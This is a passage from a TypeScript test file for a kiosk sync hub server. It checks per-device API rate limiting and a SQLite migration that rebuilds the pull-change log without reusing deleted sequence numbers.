          const busy = await limited.store.addDevice({ unitId: 'rugeley', name: 'Busy kiosk', now: NOW });
          const calm = await limited.store.addDevice({ unitId: 'rugeley', name: 'Calm kiosk', now: NOW });
          const get = (device: NewDevice, path: string) => fetch(`${limited.url}/api/v1${path}`, { headers: bearer(device) });
          expect((await get(busy, '/sync/pull')).status).toBe(200);
          expect((await get(busy, '/forums/rugeley/issues')).status).toBe(200);
          expect((await get(busy, '/forums/rugeley/issues.csv')).status).toBe(200);
          const refused = await get(busy, '/forums/rugeley/issues');
          expect(refused.status).toBe(429);
          expect(await refused.json()).toMatchObject({ error: { code: 'rate-limited' } });
          expect((await get(calm, '/forums/rugeley/issues.csv')).status).toBe(200);
        } finally {
          await limited.close();
          await other.dispose();
        }
      });
    });
  });
}

// SQLite only: PostgreSQL starts at the schema SQLite reached with its 0002 (server/postgres/migrations.ts).
describe('hub store: migration 0002', () => {
  it('rebuilds the pull log with its rows, and its sequence goes on from where it was', async () => {
    const other = makeTempDir('onestop-hub-migrate-');
    try {
      const file = hubDatabaseFile(other.path);
      const db = openDatabase(file);
      migrate(db, HUB_MIGRATIONS, 1);
      db.prepare("INSERT INTO devices (id, unit_id, name, token_hash, created_at) VALUES ('d1', 'rugeley', 'K1', 'hash', ?)").run(NOW.toISOString());
      const insert = db.prepare(
        "INSERT INTO pull_changes (unit_id, entity, entity_id, version, data, origin_device_id, created_at) VALUES (?, 'meeting', ?, 1, '{}', ?, ?)",
      );
      for (const [unit, id, origin] of [['rugeley', 'm1', null], [null, 'm2', 'd1'], ['rugeley', 'm3', null]] as const) insert.run(unit, id, origin, NOW.toISOString());
      // The last one handed out is gone: its number must not be handed out again.
      db.prepare("DELETE FROM pull_changes WHERE entity_id = 'm3'").run();
      const before = db.prepare('SELECT * FROM pull_changes ORDER BY seq').all();
      db.close();

      const store = openSqliteHubStore({ file, units: hubUnits(UNITS) });
      try {
        const { seq } = await store.appendChange({ unitId: 'rugeley', entity: 'enquiry', id: randomUUID(), data: { reference: 'RUG-K1-000001' }, now: NOW });
        expect(seq).toBe(4);
      } finally {
        await store.close();
      }
      const after = openDatabase(file, { readonly: true });
      try {
        expect(after.pragma('user_version', { simple: true })).toBe(HUB_MIGRATIONS.length);
        expect(after.prepare('SELECT * FROM pull_changes WHERE seq < 4 ORDER BY seq').all()).toEqual(before);
        expect(after.prepare("SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = 'pull_changes' ORDER BY name").all()).toEqual([
          { name: 'pull_changes_entity' },
          { name: 'pull_changes_unit' },
        ]);
      } finally {
        after.close();
      }
    } finally {
      other.remove();
    }
  });
});
